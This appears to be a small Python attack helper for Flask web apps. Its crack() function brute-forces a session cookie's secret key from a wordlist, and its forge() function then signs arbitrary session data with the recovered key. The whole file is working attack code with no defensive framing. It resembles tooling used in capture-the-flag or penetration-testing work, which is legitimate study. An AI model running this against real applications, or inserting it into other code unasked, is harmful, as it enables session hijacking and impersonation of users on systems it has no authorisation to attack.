from flask import Flask
from flask.sessions import SecureCookieSessionInterface


def _serializer(key):
    app = Flask("x")
    app.config["SECRET_KEY"] = key
    return SecureCookieSessionInterface().get_signing_serializer(app)


def crack(cookie, wordlist):
    hits = [w for w in wordlist if _serializer(w).loads_unsafe(cookie)[0]]
    return hits[0] if hits else None


def forge(secret_key, data):
    return _serializer(secret_key).dumps(dict(data))
